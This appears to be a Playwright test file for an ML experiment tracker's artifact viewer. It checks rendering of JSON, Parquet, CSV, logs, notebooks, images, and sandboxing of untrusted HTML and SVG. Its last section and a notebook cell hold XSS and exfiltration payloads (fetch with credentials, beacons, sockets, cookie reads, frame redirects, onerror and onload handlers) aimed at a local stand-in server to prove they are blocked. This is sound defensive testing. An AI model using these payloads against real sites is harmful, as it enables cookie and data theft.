import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parquetWriteBuffer } from 'hyparquet-writer';
import type { Page } from 'playwright/test';
import { type Api, expect, test } from '../fixtures';

const bytes = (buffer: ArrayBuffer) => new Uint8Array(buffer) as Uint8Array<ArrayBuffer>;

/** A new run with these files, looked at. */
async function runWith(api: Api, files: Record<string, string | Uint8Array<ArrayBuffer>>): Promise<string> {
  const experimentId = await api.experiment();
  const runId = await api.run(experimentId);
  for (const [path, body] of Object.entries(files)) await api.upload(runId, path, body);
  return `/experiments/${experimentId}/runs/${runId}?tab=artifacts`;
}

const open = (page: Page, name: string) =>
  page.getByRole('treeitem', { name: new RegExp(`^${name}`) }).click();

test('JSON is a tree that opens and closes by keys; a broken one is told and shown as it is', async ({
  page,
  api,
}) => {
  await page.goto(
    await runWith(api, {
      'config.json': JSON.stringify({ model: { layers: [{ units: 64 }], act: 'relu' }, seed: 1 }),
      'broken.json': '{"a": ',
    }),
  );
  await open(page, 'config');
  const tree = page.getByRole('tree', { name: 'config.json' });
  await expect(tree.getByRole('treeitem', { name: 'layers: [1]' })).toBeVisible();
  await expect(tree.getByRole('treeitem', { name: 'units' })).toHaveCount(0);
  await tree.getByRole('treeitem', { name: 'layers' }).click();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('ArrowRight');
  await expect(tree.getByRole('treeitem', { name: 'units: 64' })).toBeVisible();
  await page.keyboard.press('Home');
  await page.keyboard.press('ArrowLeft');
  await expect(tree.getByRole('treeitem')).toHaveCount(1);
  await open(page, 'broken');
  await expect(page.getByText(/This is not JSON/)).toBeVisible();
});

test('a table is sorted and paged, Parquet by the parts that are looked at', async ({ page, api }) => {
  const rows = 3000;
  const parquet = parquetWriteBuffer({
    columnData: [
      { name: 'id', data: Array.from({ length: rows }, (_, row) => row), type: 'INT32' },
      {
        name: 'score',
        data: Array.from({ length: rows }, (_, row) => ((row * 7) % rows) / 8),
        type: 'DOUBLE',
      },
    ],
    rowGroupSize: 500,
  });
  await page.goto(
    await runWith(api, {
      'scores.parquet': bytes(parquet),
      'scores.csv': 'name,score\nada,9\n"grace, h.",10\nnobody,\n',
    }),
  );
  await open(page, 'scores.parquet');
  const table = page.getByRole('table', { name: 'scores.parquet' });
  await expect(table.getByRole('row').nth(1)).toContainText('0');
  await page.getByRole('button', { name: 'Last page' }).click();
  await expect(page.getByText('Rows 2,001 to 3,000 of 3,000')).toBeVisible();
  await expect(table.getByRole('row').nth(1)).toContainText('2000');
  await table.getByRole('button', { name: /score/ }).click();
  await table.getByRole('button', { name: /score/ }).click();
  await expect(table.getByRole('columnheader', { name: /score/ })).toHaveAttribute('aria-sort', 'descending');
  await expect(table.getByRole('row').nth(1)).toContainText('374.875');
  await expect(page).toHaveURL(/sort=-1/);

  await open(page, 'scores.csv');
  const csv = page.getByRole('table', { name: 'scores.csv' });
  await csv.getByRole('button', { name: /score/ }).click();
  await csv.getByRole('button', { name: /score/ }).click();
  await expect(csv.getByRole('row').nth(1)).toContainText('grace, h.');
  await expect(csv.getByRole('row').nth(3)).toContainText('nobody');
});

test('a long text is read in parts, of which only the one in sight is fetched', async ({ page, api }) => {
  const lines = Array.from({ length: 120_000 }, (_, line) => `line ${line} of a long log`);
  await page.goto(await runWith(api, { 'train.log': lines.join('\n') }));
  let fetched = 0;
  page.on('response', async (response) => {
    if (response.url().includes('get-artifact')) fetched += Number(response.headers()['content-length'] ?? 0);
  });
  await open(page, 'train');
  await expect(page.getByText('line 0 of a long log')).toBeVisible();
  await page.getByRole('button', { name: 'Last part' }).click();
  await expect(page.getByText(/^line 11\d{4} of a long log/).first()).toBeVisible();
  await page.getByRole('region', { name: 'train.log' }).focus();
  await page.keyboard.press('End');
  await expect(page.getByText('line 119999 of a long log')).toBeVisible();
  expect(fetched).toBeLessThan(700_000);
  await page.reload();
  await expect(page.getByText(/^line 11\d{4} of a long log/).first()).toBeVisible();
});

test('a log is searched, in a terminal’s colours; shapes are a map, an evaluation a picture', async ({
  page,
  api,
}) => {
  const lines = Array.from({ length: 3_000 }, (_, line) => `step ${line}`);
  lines[2_500] = ' 10%\r100% \u001b[31mdiverged\u001b[0m';
  const point = {
    type: 'Feature',
    properties: { name: 'Berlin' },
    geometry: { type: 'Point', coordinates: [13, 52] },
  };
  await page.goto(
    await runWith(api, {
      'train.log': lines.join('\n'),
      'places.geojson': JSON.stringify({ type: 'FeatureCollection', features: [point] }),
      'confusion.json': JSON.stringify({
        labels: ['cat', 'dog'],
        matrix: [
          [9, 1],
          [2, 8],
        ],
      }),
      'roc.json': JSON.stringify({ fpr: [0, 0.5, 1], tpr: [0, 1, 1] }),
    }),
  );
  await open(page, 'train');
  await expect(page.getByRole('searchbox', { name: 'Search the text' })).toBeVisible();
  await page.keyboard.press('/');
  await page.keyboard.type('DIVERGED');
  await expect(page.getByText('1 of 1 lines')).toBeVisible();
  const found = page.getByText('diverged', { exact: true });
  await expect(found).toBeInViewport();
  await expect(found).toHaveClass(/text-danger/);
  await expect(page.getByText('10%')).toHaveCount(0);
  await open(page, 'places');
  await expect(page.getByRole('img', { name: /^places\.geojson: 1 point, from 13° E/ })).toBeVisible();
  await page.getByRole('button', { name: 'Berlin point' }).click();
  await expect(page.getByRole('button', { name: 'Berlin point' })).toHaveAttribute('aria-pressed', 'true');
  await open(page, 'confusion');
  const table = page.getByRole('table', { name: 'confusion.json' });
  await expect(table.getByRole('row', { name: /^dog/ })).toContainText('0.800');
  await open(page, 'roc');
  await expect(page.getByRole('img', { name: 'ROC curve of 3 points, area under it 0.7500' })).toBeVisible();
});

test('a notebook is shown with its outputs, and runs nothing', async ({ page, api }) => {
  const cell = (source: string, outputs: object[]) => ({
    cell_type: 'code',
    execution_count: 1,
    source,
    outputs,
  });
  const notebook = {
    nbformat: 4,
    metadata: {},
    cells: [
      { cell_type: 'markdown', source: '# Findings\n<img src=x onerror="window.ran = 1">' },
      cell('df.head()', [
        {
          output_type: 'display_data',
          data: { 'text/html': '<table><tr><td>cell of a table</td></tr></table>' },
        },
        { output_type: 'stream', name: 'stdout', text: 'printed' },
      ]),
      cell('1/0', [{ output_type: 'error', traceback: ['\u001b[31mZeroDivisionError\u001b[0m'] }]),
    ],
  };
  await page.goto(await runWith(api, { 'explore.ipynb': JSON.stringify(notebook) }));
  await open(page, 'explore');
  await expect(page.getByRole('heading', { name: 'Findings' })).toBeVisible();
  await expect(page.getByText('printed')).toBeVisible();
  await expect(page.getByText('ZeroDivisionError', { exact: true })).toBeVisible();
  await expect(page.frameLocator('iframe').getByText('cell of a table')).toBeVisible();
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

test('pictures that were logged by step are looked through; a model tells what it takes', async ({
  page,
  api,
}) => {
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  const image = (step: number) => `images/val~mask+step+${step}+timestamp+1700000000000+gabc-${step}.png`;
  await page.goto(
    await runWith(api, {
      [image(0)]: new Uint8Array(png),
      [image(5)]: new Uint8Array(png),
      'forest/MLmodel': `flavors:\n  sklearn:\n    sklearn_version: 1.5.0\nsignature:\n  inputs: '[{"name": "age", "type": "double"}]'\n`,
    }),
  );
  await open(page, 'images');
  await expect(page.getByRole('img', { name: 'val/mask at step 5' })).toBeVisible();
  await page.getByRole('slider', { name: 'Step', exact: true }).press('ArrowLeft');
  const first = page.getByRole('img', { name: 'val/mask at step 0' });
  await expect(first).toBeVisible();
  expect(await first.evaluate((shown: HTMLImageElement) => shown.naturalWidth)).toBe(1);
  await open(page, 'forest');
  await expect(page.getByRole('list', { name: 'Inputs' })).toContainText('agedouble');
  await page.getByRole('button', { name: 'MLmodel' }).click();
  await expect(page.getByRole('heading', { name: 'sklearn', exact: true })).toBeVisible();
});

test.describe('what others made', () => {
  // The browser says of each way out that it is shut.
  test.use({ allowedErrors: /./ });

  let outside: Server;
  let heard: string[];
  let address: string;
  test.beforeAll(async () => {
    outside = createServer((request, response) => {
      heard.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end('<p>outside</p>');
    });
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
    address = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  });
  test.beforeEach(() => {
    heard = [];
  });
  test.afterAll(() => void outside.close());

  test('runs in a box that reaches no server, ours or another', async ({ page, api, baseURL }) => {
    const attempts = (where: string) => `
      <link rel="stylesheet" href="${where}/style"><link rel="prefetch" href="${where}/prefetch">
      <img src="${where}/img"><script src="${where}/script"></script><iframe src="${where}/frame"></iframe>
      <style>body { background: url("${where}/css") }</style><video src="${where}/video"></video>
      <form id="f" action="${where}/form"></form><a id="a" href="${where}/link" ping="${where}/ping" target="_blank">x</a>
      <p id="said">nothing yet</p>
      <script>
        const tried = [];
        const attempt = (name, work) => { try { work(); tried.push(name) } catch (error) { tried.push(name + ' refused') } };
        attempt('fetch', () => fetch('${where}/fetch', { mode: 'no-cors', credentials: 'include' }).catch(() => {}));
        attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${where}/xhr'); x.send() });
        attempt('beacon', () => navigator.sendBeacon('${where}/beacon', 'x'));
        attempt('socket', () => new WebSocket('${where.replace('http', 'ws')}/socket'));
        attempt('events', () => new EventSource('${where}/events'));
        attempt('worker', () => new Worker(URL.createObjectURL(new Blob(["importScripts('${where}/worker')"]))));
        attempt('import', () => import('${where}/module').catch(() => {}));
        attempt('form', () => f.submit());
        attempt('click', () => a.click());
        attempt('window', () => window.open('${where}/window'));
        attempt('top', () => { top.location = '${where}/top' });
        attempt('cookie', () => document.cookie);
        attempt('storage', () => localStorage.length);
        attempt('parent', () => parent.document.title);
        said.textContent = 'tried ' + tried.join(', ');
      </script>`;
    const place = await runWith(api, {
      'evil.html': attempts(address),
      'inward.html': attempts(baseURL ?? ''),
    });
    // Of what is refused the browser tells too; what got through has an answer.
    const answered: string[] = [];
    page.on('response', (response) => {
      if (
        /\/(style|prefetch|img|script|frame|css|video|form|link|fetch|xhr|beacon|socket|events|worker|module|window|top)$/.test(
          response.url(),
        )
      )
        answered.push(response.url());
    });
    await page.goto(place);
    for (const name of ['evil', 'inward']) {
      await open(page, name);
      const said = page.frameLocator('iframe[title$=".html"]').locator('#said');
      await expect(said).toContainText('cookie refused');
      await expect(said).toContainText('storage refused');
      await expect(said).toContainText('parent refused');
      await expect(said).toContainText('top');
      await expect(page).toHaveURL(/tab=artifacts/);
    }
    // What is refused is refused before it is sent: by now anything would have come.
    await page.getByRole('radio', { name: 'Source' }).click();
    await expect(page.getByText('nothing yet')).toBeVisible();
    expect(heard).toEqual([]);
    expect(answered).toEqual([]);
  });

  for (const [way, html] of [
    ['by script', (where: string) => `<script>location = '${where}/led-away'</script>`],
    ['by its head', (where: string) => `<meta http-equiv="refresh" content="0; url=${where}/led-away">`],
    ['by a link', (where: string) => `<a id="a" href="${where}/led-away">x</a><script>a.click()</script>`],
  ] as const) {
    test(`cannot lead its frame elsewhere ${way}`, async ({ page, api }) => {
      await page.goto(await runWith(api, { 'led.html': html(address) }));
      const refused = page.waitForEvent('console', (message) => /frame-src|Framing/.test(message.text()));
      await open(page, 'led');
      await refused;
      expect(heard).toEqual([]);
      await expect(page).toHaveURL(/tab=artifacts/);
    });
  }

  test('in a drawing does not run either', async ({ page, api }) => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="fetch('${address}/svg')"><image href="${address}/image"/><script>fetch('${address}/script')</script></svg>`;
    await page.goto(await runWith(api, { 'drawing.svg': svg }));
    await open(page, 'drawing');
    const drawing = page.getByRole('img', { name: 'drawing.svg' });
    await expect.poll(() => drawing.evaluate((shown: HTMLImageElement) => shown.naturalWidth)).toBe(10);
    expect(heard).toEqual([]);
  });
});
